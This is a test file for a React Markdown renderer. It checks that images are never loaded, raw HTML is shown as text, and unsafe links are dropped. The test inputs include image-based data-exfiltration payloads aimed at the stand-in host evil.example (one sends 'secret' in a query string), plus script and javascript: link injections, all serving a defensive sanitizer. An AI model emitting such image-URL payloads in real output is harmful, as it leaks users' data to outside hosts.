import { render, screen } from '@testing-library/react'
import { expect, test } from 'vitest'
import { Markdown } from './markdown.tsx'

test('an answer is formatted: lists, tables, code, headings that are none of the page', () => {
  const text = '# Hours\n\n- **eight** to six\n\n| day | open |\n| - | - |\n| Sunday | no |\n\n```\nopen()\n```\n'
  const { container } = render(<Markdown text={text} />)
  expect(container.querySelector('strong')?.textContent).toBe('eight')
  expect(screen.getByRole('table')).toBeTruthy()
  expect(screen.getByText('open()').tagName).toBe('CODE')
  expect(screen.queryByRole('heading')).toBeNull()
})

test('no image is loaded, wherever it is, and however it is written', () => {
  const { container } = render(
    <Markdown
      text={
        '![secret](https://evil.example/?q=secret)\n\n![r][ref]\n\n[ref]: //evil.example/2\n\n' +
        '<img src="https://evil.example/3">\n\n<picture><source srcset="https://evil.example/4"></picture>\n\n' +
        '[![in a link](https://evil.example/5)](https://evil.example/6)'
      }
    />,
  )
  expect(container.querySelectorAll('img, picture, source, video, audio, iframe, object, embed, link')).toHaveLength(0)
  expect(container.querySelectorAll('[src], [srcset], [style*=url]')).toHaveLength(0)
  expect(screen.getByText('Image from evil.example, not loaded: secret')).toBeTruthy()
})

test('HTML is text', () => {
  const { container } = render(<Markdown text={'<script>window.x = 1</script><b onclick="x()">bold</b> text'} />)
  expect(container.querySelector('script, b')).toBeNull()
  expect(container.textContent).toContain('<script>window.x = 1</script><b onclick="x()">bold</b> text')
})

test('a link leads out and tells nobody from where; one that would do anything else is text', () => {
  render(<Markdown text={'[out](https://example.com/a) [bad](javascript:alert(1)) [home](/settings)'} />)
  const [link, ...others] = screen.getAllByRole('link')
  expect(others).toEqual([])
  expect(link?.getAttribute('href')).toBe('https://example.com/a')
  expect(link?.getAttribute('rel')).toBe('noopener noreferrer nofollow')
  expect(link?.getAttribute('target')).toBe('_blank')
  expect(screen.getByText('home').closest('a')).toBeNull()
})
